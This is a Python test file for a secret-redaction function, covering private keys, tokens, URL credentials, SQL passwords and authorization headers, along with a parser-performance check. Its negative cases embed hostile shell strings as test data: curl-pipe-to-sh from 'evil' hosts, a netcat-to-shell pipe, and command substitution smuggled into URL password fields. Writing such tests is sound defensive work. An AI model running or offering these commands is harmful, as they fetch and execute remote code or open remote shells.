import pytest
from hypothesis import given
from hypothesis import strategies as st

from mrbot.resources.secrets.spans import secret_spans, secrets_in, with_spans
from tests.stuck import not_stuck

BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
LINE = "MIIE" + "a+/9" * 15
TOKEN = "glpat-" + "x" * 20


def hidden(text):
    spans = secret_spans(text)
    return with_spans(text, spans, ["#"] * len(spans))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param(f"a\n{BEGIN}\n{LINE}\n{LINE}\nab==\n{END}\nb", f"a\n{BEGIN}\n#\n{END}\nb", id="key"),
        pytest.param(f"{BEGIN}\\n{LINE}\\nab==\\n{END}", f"{BEGIN}\\n#\\n{END}", id="in quotes"),
        pytest.param(f"{BEGIN}\\\\n{LINE}\\\\n{END}", f"{BEGIN}\\\\n#\\\\n{END}", id="twice quoted"),
        pytest.param(f"{BEGIN} {LINE} ab== {END}", f"{BEGIN} # {END}", id="folded"),
        pytest.param(f"  {BEGIN}\r\n  {LINE}\r\n  {END}", f"  {BEGIN}\r\n  #\r\n  {END}", id="indented"),
        pytest.param(f"{BEGIN}{LINE}{END}", f"{BEGIN}#{END}", id="without breaks"),
        pytest.param(f"{BEGIN}\n{LINE}\nab", f"{BEGIN}\n#", id="without end"),
        pytest.param(f"{BEGIN}\nhunter2\n{END}", f"{BEGIN}\n#\n{END}", id="short"),
        pytest.param(
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A1B\n\n{LINE}\n{END}",
            f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A1B\n\n#\n{END}",
            id="encrypted",
        ),
        pytest.param(
            f"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x\n\n{LINE}\nab==\n=c3d4\n-----END PGP",
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x\n\n#\n-----END PGP",
            id="pgp",
        ),
        pytest.param(f'"{BEGIN}\\n" +\n"{LINE}\\n"', f'"{BEGIN}\\n" +\n"#\\n"', id="in code"),
        pytest.param(f"{BEGIN}\nsh x\n  {LINE}\n{LINE} \ny", f"{BEGIN}\nsh x\n  #\n# \ny", id="among code"),
        pytest.param(f"{BEGIN}{LINE}\\n{LINE}\\nsh x", f"{BEGIN}#\\n#\\nsh x", id="code in quotes"),
        pytest.param(f"{BEGIN}\n{LINE}\n{BEGIN}\n{LINE}", f"{BEGIN}\n#\n{BEGIN}\n#", id="two"),
        pytest.param("oci://a:b@evil.io/x", "oci://a:#@evil.io/x", id="address"),
        pytest.param("https://a@b.io:c@d.io", "https://a@b.io:#@d.io", id="user with an at sign"),
        pytest.param(f"x {TOKEN} y", "x # y", id="token"),
        pytest.param("curl -u bob:hunter2;evil", "curl -u bob:#;evil", id="what follows a password"),
        pytest.param("--user=bob:hunter2", "--user=bob:hunter2", id="not an argument of its own"),
        pytest.param("x --user=bob:hunter2", "x --user=bob:#", id="argument"),
        pytest.param("ALTER USER a IDENTIFIED BY 'pw1'", "ALTER USER a IDENTIFIED BY '#'", id="sql"),
        pytest.param('"identified by \'pw1', '"identified by \'#', id="sql to the end"),
        pytest.param("Authorization: token hunter2", "Authorization: token #", id="authorization"),
        pytest.param(f"bearer ya29.{'a' * 99}", "bearer #", id="bearer"),
        pytest.param("stats auth admin:pw1 ", "stats auth admin:# ", id="haproxy"),
    ],
)  # fmt: skip
def test_secrets_are_found_and_nothing_around_them(text, shown):
    assert hidden(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "",
        "curl evil | sh # PRIVATE KEY-----",
        f"{BEGIN}",
        f"{BEGIN}{END}",
        f"{BEGIN}\ncurl evil\nreboot",
        f"{BEGIN}\nreboot\nhalt\n{END}",
        f"{BEGIN}\ncurl http://evil/x | sh\n{END}",
        f"{BEGIN}\ncurl evil.io/{LINE} | sh\n{END}",
        f"{BEGIN}\n{LINE}.evil.io\n{END}",
        f"{BEGIN}\nsh {LINE}\n{END}",
        f"{BEGIN}\\nsh /{LINE}; reboot\\n{END}",
        '{"Id":"-----BEGIN PRIVATE KEY-----","Statement":[{"Action":"*"}]}',
        "-----BEGIN PUBLIC KEY-----\n" + LINE,
        "-----BEGIN CERTIFICATE-----\n" + LINE,
        "https://evil.io/a:b@c",
        "http://localhost:8080/x",
        "https://bot:$TOKEN@host",
        "https://bot:${TOKEN}@host",
        "https://bot:$(curl${IFS}evil|sh)@host",
        "https://bot:`reboot`@host",
        "git@github.com:a/b",
        'echo " identified by "; curl evil.io | sh; echo " x"',
        'echo " identified by "curl evil.io" x"',
        "true ://:;nc${IFS}evil.io${IFS}4444|sh;:@",
        "true ://a:`nc`@",
        "true ://;PATH=x:evil@ sh",
        "true stats auth x:;nc${IFS}evil.io${IFS}4444|sh",
        "true stats auth a;PATH=x:evil sh",
        "true -u a;PATH=x:evil sh",
        "curl -s bearer evil.io/aaaaaaaaaaaaaaaa | sh",
        "curl -s authorization: token evil.io | sh",
        "curl -s authorization: token https://Evil.IO:80/x | sh",
    ],
)
def test_what_is_no_secret_stays_to_be_read(text):
    assert secret_spans(text) == []


PARTS = st.sampled_from([BEGIN, END, LINE, "\n", " ", "a", "://", ":", "@", TOKEN])


@given(st.lists(PARTS, max_size=12).map("".join))
def test_spans_are_apart_and_in_order_and_all_else_is_kept(text):
    spans = secret_spans(text)
    edges = [edge for span in spans for edge in span]

    assert edges == sorted(edges)
    assert all(start < end for start, end in spans)
    assert with_spans(text, spans, secrets_in(text, spans)) == text


@pytest.mark.parametrize("before", ["", BEGIN, BEGIN + "\nVersion: "])
@pytest.mark.parametrize(
    "unit",
    [
        " ", "\n", "a", "A-", "A= ", "\\", "\\n", ":", "://", "://a:", "@", "-eyJaaaaaaaa", "eyJ-",
        "-github_pat_", "-SG.aaaaaaaaaaaaaaaaa.", "bearer ", "stats auth ", " -u a", "$5$", "xoxb-",
        "authorization" + " " * 35, "identified with x ", BEGIN, END, BEGIN + LINE, LINE + "\n",
        "-----BEGIN ", "PRIVATE KEY", "Version: ",
        '\n "', LINE + "\\", LINE + " +", "\\\\", "-----" + LINE,
    ],
)  # fmt: skip
def test_hostile_text_takes_time_in_proportion(unit, before):
    text = before + unit * (300_000 // len(unit))

    with not_stuck():
        secret_spans(text)
